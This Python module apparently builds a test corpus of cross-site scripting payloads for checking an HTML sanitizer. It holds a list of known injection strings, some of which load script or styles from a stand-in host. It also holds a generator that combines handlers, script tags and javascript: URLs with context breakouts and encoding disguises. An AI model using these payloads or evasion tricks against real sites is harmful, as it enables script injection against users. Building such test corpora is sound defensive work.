"""What a hostile post carries: the known families of script in content, and a seeded corpus made of them."""

from __future__ import annotations

import random
from html import escape
from urllib.parse import quote

KNOWN = (
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<SCRIPT SRC=//example.invalid/a.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//example.invalid/><link rel=stylesheet href=a.css>",
    "<style>*{background:url(//example.invalid/a)}</style>",
    "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
    "{{constructor.constructor('alert(1)')()}}${alert(1)}<%= alert(1) %>",
)
"""One of every way in."""

_HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onanimationstart", "onpointerenter", "onbegin", "onstart")
_TAGS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "marquee", "object data=x")
_CALLS = ("alert(1)", "alert`1`", "window['alert'](1)", "top.alert(1)", "confirm(1)", "prompt(1)", "(alert)(1)")
_ADDRESSES = ("javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "data:text/html,<script>{}</script>", "vbscript:{}")
_FOLLOWED = (
    '<a href="{}">x</a>', "<iframe src='{}'></iframe>", '<form action="{}"><input type=submit>', "<embed src={}>",
)  # fmt: skip
_AROUND = ("{}", '">{}', "'>{}", "</title>{}", "</textarea>{}", "</style>{}", "</script>{}", "-->{}", "]]>{}", "<b>{}")


def corpus(size: int, seed: int = 8) -> list[str]:
    """`size` payloads, no two alike, none of `KNOWN`: a family, broken out of a context, in some disguise."""
    chance, made = random.Random(seed), dict[str, None]()
    while len(made) < size:
        call = chance.choice(_CALLS)
        carrier = chance.choice((_handler, _script, _address))(chance, call)
        made[_disguised(chance, chance.choice(_AROUND).format(carrier))] = None
        for known in KNOWN:
            made.pop(known, None)
    return list(made)


def _handler(chance: random.Random, call: str) -> str:
    blank, quoted = chance.choice((" ", "/", "\n", "\t")), chance.choice(("{}", '"{}"', "'{}'"))
    return f"<{chance.choice(_TAGS)}{blank}{chance.choice(_HANDLERS)}={quoted.format(call)}>"


def _script(chance: random.Random, call: str) -> str:
    name = chance.choice(("script", "ScRiPt", "svg><script", "script/x", "script type=module"))
    return f"<{name}>{call}</script>"


def _address(chance: random.Random, call: str) -> str:
    address = chance.choice(_ADDRESSES).format(call)
    return chance.choice(_FOLLOWED).format(address)


def _disguised(chance: random.Random, payload: str) -> str:
    """As it is, written as entities once or twice, percent-encoded, or with full-width brackets."""
    way = chance.randrange(10)
    if way < 6:
        return payload
    if way == 6:
        return escape(payload)
    if way == 7:
        return escape(escape(payload))
    return quote(payload) if way == 8 else payload.replace("<", "＜").replace(">", "＞") + payload
